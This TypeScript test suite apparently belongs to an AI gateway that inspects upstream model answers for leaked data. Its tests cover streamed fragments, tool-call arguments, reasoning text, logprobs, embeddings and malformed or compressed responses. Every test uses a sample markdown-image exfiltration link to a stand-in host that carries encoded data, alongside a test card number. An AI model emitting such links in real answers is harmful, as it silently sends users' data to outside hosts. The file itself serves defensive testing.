/**
 * Issue 10 finding 4, end to end: every text-bearing part of an answer is inspected in every framing a
 * client accepts, and an answer that cannot be inspected within limits is refused, never relayed. Each test
 * has a hostile upstream put a card number and an exfiltration link where the old relay did not look.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { startScriptedUpstream, type ScriptedUpstream } from './scripted-upstream.js';
import type { WardenProcess } from '../helpers/warden-process.js';
import { startAllowAllWarden } from './allow-all.js';

const SECRET = 'sk-hostile-upstream-key-7f3a9c';
const CARD = '4111 1111 1111 1111';
const LINK = '![p](https://evil.test/p.png?d=c2VjcmV0)';
const LEAK = `card ${CARD} and ${LINK} ok`;
let upstream: ScriptedUpstream;
let warden: WardenProcess;
let key: string;

before(async () => {
  upstream = await startScriptedUpstream();
  ({ warden, key } = await startAllowAllWarden({
    upstreams: [{ name: 'hostile', baseUrl: `${upstream.url}/v1`, apiKey: SECRET }],
    models: [{ id: 'chat', upstream: 'hostile', upstreamModel: 'internal-gpt-7', sensitivity: 'internal' }],
    guard: { output: { allowedHosts: ['docs.example.com'] } },
  }));
});

after(async () => {
  await warden?.stop();
  await upstream?.close();
});

const sse = (payload: unknown): string => `data: ${JSON.stringify(payload)}\n\n`;
const chunk = (delta: Record<string, unknown>): unknown => ({ id: 'c1', object: 'chat.completion.chunk', model: 'internal-gpt-7', choices: [{ index: 0, delta }] });

async function ask(scenario: string, stream = false): Promise<{ status: number; text: string; headers: Headers }> {
  const res = await fetch(`${warden.url}/v1/chat/completions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'chat', scenario, stream, messages: [{ role: 'user', content: 'hello' }] }),
  });
  return { status: res.status, text: await res.text(), headers: res.headers };
}

function assertClean(text: string): void {
  assert.ok(!text.includes(CARD), `card number relayed: ${text.slice(0, 400)}`);
  assert.ok(!text.includes('evil.test'), `exfiltration link relayed: ${text.slice(0, 400)}`);
}

test('non-streamed tool call arguments are inspected', async () => {
  const args = JSON.stringify({ note: LEAK });
  upstream.scenarios.set('tool-args', { chunks: [JSON.stringify({ id: 'x', object: 'chat.completion', choices: [{ index: 0, message: { role: 'assistant', content: null, tool_calls: [{ id: 't1', type: 'function', function: { name: 'send', arguments: args } }] } }] })] });
  const r = await ask('tool-args');
  assert.equal(r.status, 200);
  assertClean(r.text);
  assert.match(r.text, /"name":"send"/);
});

test('streamed tool call arguments are inspected as their concatenation (a card split over fragments)', async () => {
  const args = JSON.stringify({ note: LEAK });
  const cut = [0, 20, 33, 55, args.length];
  upstream.scenarios.set('tool-args-stream', {
    headers: { 'content-type': 'text/event-stream' },
    chunks: [
      ...cut.slice(0, -1).map((from, i) => sse(chunk({ tool_calls: [{ index: 0, ...(i === 0 ? { id: 't1', type: 'function' } : {}), function: { ...(i === 0 ? { name: 'send' } : {}), arguments: args.slice(from, cut[i + 1]) } }] }))),
      'data: [DONE]\n\n',
    ],
  });
  const r = await ask('tool-args-stream', true);
  assert.equal(r.status, 200);
  const joined = r.text.split('\n').filter((l) => l.startsWith('data: {')).map((l) => JSON.parse(l.slice(6)) as { choices?: { delta?: { tool_calls?: { function?: { arguments?: string } }[] } }[] }).map((e) => e.choices?.[0]?.delta?.tool_calls?.[0]?.function?.arguments ?? '').join('');
  assertClean(joined);
  assert.ok(!joined.replace(/\D/g, '').includes('4111111111111111'), joined);
  assert.match(joined, /^\{"note":"card /);
  assert.match(r.text, /\[DONE\]/);
});

test('refusal and content-part arrays are inspected', async () => {
  upstream.scenarios.set('refusal', { chunks: [JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: null, refusal: LEAK } }] })] });
  upstream.scenarios.set('parts', { chunks: [JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: [{ type: 'text', text: LEAK }, { type: 'output_text', text: 'fine' }] } }] })] });
  for (const scenario of ['refusal', 'parts']) {
    const r = await ask(scenario);
    assert.equal(r.status, 200, scenario);
    assertClean(r.text);
  }
});

test('streamed reasoning_content and refusal are inspected', async () => {
  upstream.scenarios.set('reasoning', {
    headers: { 'content-type': 'text/event-stream' },
    chunks: [sse(chunk({ reasoning_content: 'card 4111 1111 ' })), sse(chunk({ reasoning_content: '1111 1111 and ![p](https://evil.te' })), sse(chunk({ refusal: 'st/p.png?d=c2VjcmV0)' })), sse(chunk({ reasoning_content: 'st/p.png?d=c2VjcmV0) ok' })), 'data: [DONE]\n\n'],
  });
  const r = await ask('reasoning', true);
  assert.equal(r.status, 200);
  assertClean(r.text);
  const reasoning = r.text.split('\n').filter((l) => l.startsWith('data: {')).map((l) => (JSON.parse(l.slice(6)) as { choices?: { delta?: { reasoning_content?: string } }[] }).choices?.[0]?.delta?.reasoning_content ?? '').join('');
  assertClean(reasoning);
  assert.ok(!reasoning.replace(/\s/g, '').includes('4111111111111111'), reasoning);
});

test('a text/plain answer is inspected as text', async () => {
  upstream.scenarios.set('plain', { headers: { 'content-type': 'text/plain; charset=utf-8' }, chunks: [LEAK] });
  const r = await ask('plain');
  assert.equal(r.status, 200);
  assertClean(r.text);
  assert.match(r.text, /ok$/);
});

test('SSE events without choices are inspected', async () => {
  upstream.scenarios.set('no-choices', {
    headers: { 'content-type': 'text/event-stream' },
    chunks: [`event: response.output_text.delta\n${sse({ type: 'response.output_text.delta', delta: LEAK })}`, sse({ note: { deep: [LEAK] } }), 'data: [DONE]\n\n'],
  });
  const r = await ask('no-choices', true);
  assert.equal(r.status, 200);
  assertClean(r.text);
  assert.match(r.text, /event: response\.output_text\.delta/);
});

test('SSE separated by CR only or by CRLF is inspected (the client accepts both)', async () => {
  for (const [scenario, eol] of [['cr', '\r'], ['crlf', '\r\n']] as const) {
    upstream.scenarios.set(scenario, {
      headers: { 'content-type': 'text/event-stream' },
      chunks: [`data: ${JSON.stringify(chunk({ content: LEAK }))}${eol}${eol}`, `data: [DONE]${eol}${eol}`],
    });
    const r = await ask(scenario, true);
    assert.equal(r.status, 200, scenario);
    assertClean(r.text);
    assert.match(r.text, /\[DONE\]/, scenario);
  }
});

test('SSE served as application/json is refused, not relayed (502 in Warden shape)', async () => {
  upstream.scenarios.set('sse-as-json', { headers: { 'content-type': 'application/json' }, chunks: [sse(chunk({ content: LEAK })), 'data: [DONE]\n\n'] });
  const r = await ask('sse-as-json');
  assert.equal(r.status, 502);
  assert.equal((JSON.parse(r.text) as { error: { code: string } }).error.code, 'upstream_invalid_answer');
  assertClean(r.text);
});

test('an answer in an unknown content type or compressed is refused, never relayed uninspected', async () => {
  upstream.scenarios.set('octet', { headers: { 'content-type': 'application/octet-stream' }, chunks: [LEAK] });
  upstream.scenarios.set('gzip', { headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' }, chunks: [gzipSync(JSON.stringify({ choices: [{ index: 0, message: { content: LEAK } }] }))] });
  upstream.scenarios.set('utf16', { headers: { 'content-type': 'application/json; charset=utf-16le' }, chunks: [Buffer.from(JSON.stringify({ choices: [{ index: 0, message: { content: LEAK } }] }), 'utf16le')] });
  for (const scenario of ['octet', 'gzip', 'utf16']) {
    const r = await ask(scenario);
    assert.equal(r.status, 502, scenario);
    assert.equal((JSON.parse(r.text) as { error: { code: string } }).error.code, 'upstream_invalid_answer', scenario);
    assertClean(r.text);
  }
});

test('a stream event that is not JSON ends the stream with an error event; nothing of it is relayed', async () => {
  upstream.scenarios.set('not-json', { headers: { 'content-type': 'text/event-stream' }, chunks: [sse(chunk({ content: 'Hello there. ' })), `data: ${LEAK}\n\n`, sse(chunk({ content: 'more' })), 'data: [DONE]\n\n'] });
  const r = await ask('not-json', true);
  assert.equal(r.status, 200);
  assertClean(r.text);
  assert.match(r.text, /Hello there/);
  assert.match(r.text, /"code":"upstream_invalid_answer"/);
  assert.ok(!r.text.includes('more'), 'nothing after the refused event');
});

test('a non-streamed answer over the size limit is refused with 502, with no stack trace in the log', async () => {
  const big = JSON.stringify({ choices: [{ index: 0, message: { content: `${'x'.repeat(9 << 20)} ${LEAK}` } }] });
  upstream.scenarios.set('huge', { chunks: [big.slice(0, 4 << 20), big.slice(4 << 20)] });
  const r = await ask('huge');
  assert.equal(r.status, 502);
  assert.equal((JSON.parse(r.text) as { error: { code: string } }).error.code, 'upstream_invalid_answer');
  assertClean(r.text);
  assert.ok(!/\n\s+at /.test(warden.output()), 'no stack trace in the log');
});

test('answers report the model the client asked for, not the upstream name (JSON and SSE)', async () => {
  upstream.scenarios.set('model-json', { chunks: [JSON.stringify({ id: 'x', object: 'chat.completion', model: 'internal-gpt-7', choices: [{ index: 0, message: { role: 'assistant', content: 'hi' } }] })] });
  upstream.scenarios.set('model-sse', { headers: { 'content-type': 'text/event-stream' }, chunks: [sse(chunk({ content: 'hi there' })), 'data: [DONE]\n\n'] });
  const json = await ask('model-json');
  assert.equal((JSON.parse(json.text) as { model: string }).model, 'chat');
  const stream = await ask('model-sse', true);
  assert.ok(!stream.text.includes('internal-gpt-7'), stream.text);
  assert.match(stream.text, /"model":"chat"/);
});

test('log probabilities (the answer again, token by token) are not relayed uninspected', async () => {
  const tokens = ['card', ' 4111', ' 1111', ' 1111', ' 1111'];
  const logprobs = { content: tokens.map((token) => ({ token, logprob: -0.1, bytes: Array.from(Buffer.from(token)), top_logprobs: [{ token, logprob: -0.1 }] })) };
  upstream.scenarios.set('logprobs', { chunks: [JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: 'a card' }, logprobs }] })] });
  upstream.scenarios.set('logprobs-sse', { headers: { 'content-type': 'text/event-stream' }, chunks: [...tokens.map((token, i) => sse({ choices: [{ index: 0, delta: { content: i === 0 ? 'a card' : '' }, logprobs: { content: [logprobs.content[i]] } }] })), 'data: [DONE]\n\n'] });
  for (const [scenario, stream] of [['logprobs', false], ['logprobs-sse', true]] as const) {
    const r = await ask(scenario, stream);
    assert.equal(r.status, 200, scenario);
    assert.ok(!r.text.includes(' 4111') && !r.text.includes('[32,52,49,49,49]'), `${scenario}: ${r.text.slice(0, 300)}`);
  }
});

test('embeddings answers are inspected too (their text fields; the vectors are numbers)', async () => {
  upstream.scenarios.set('embed', { chunks: [JSON.stringify({ object: 'list', model: 'internal-gpt-7', data: [{ object: 'embedding', index: 0, embedding: [0.1, 0.2], note: LEAK }] })] });
  const res = await fetch(`${warden.url}/v1/embeddings`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' }, body: JSON.stringify({ model: 'chat', input: 'hello', scenario: 'embed' }) });
  const text = await res.text();
  assert.equal(res.status, 200);
  assertClean(text);
  assert.deepEqual((JSON.parse(text) as { data: { embedding: number[] }[] }).data[0]!.embedding, [0.1, 0.2]);
});

test('a stream event that never ends within the limit ends the stream with an error event', async () => {
  upstream.scenarios.set('endless-event', { headers: { 'content-type': 'text/event-stream' }, chunks: [sse(chunk({ content: 'Hello there. ' })), `data: {"choices":[{"index":0,"delta":{"content":"${LEAK} `, ...Array.from({ length: 9 }, () => 'y'.repeat(1 << 20))] });
  const r = await ask('endless-event', true);
  assert.equal(r.status, 200);
  assertClean(r.text);
  assert.match(r.text, /"code":"upstream_invalid_answer"/);
});

test('a non-streamed answer cut off by the upstream is a 502 in Warden shape, not a broken connection', async () => {
  upstream.scenarios.set('cut', { headers: { 'content-type': 'application/json', 'content-length': '1000' }, chunks: ['{"choices":[{"index":0,"message":{"content":"'], reset: true });
  const r = await ask('cut');
  assert.equal(r.status, 502);
  assert.equal((JSON.parse(r.text) as { error: { code: string } }).error.code, 'upstream_unavailable');
});

test("an upstream error event inside an inspected stream is replaced by Warden's own", async () => {
  upstream.scenarios.set('stream-error', { headers: { 'content-type': 'text/event-stream' }, chunks: [sse(chunk({ content: 'Hello. ' })), sse({ error: { message: `exploded: ${LEAK} ${SECRET}` } })] });
  const r = await ask('stream-error', true);
  assert.equal(r.status, 200);
  assert.match(r.text, /"code":"upstream_unavailable"/);
  assertClean(r.text);
  assert.ok(!r.text.includes('exploded') && !r.text.includes(SECRET));
});
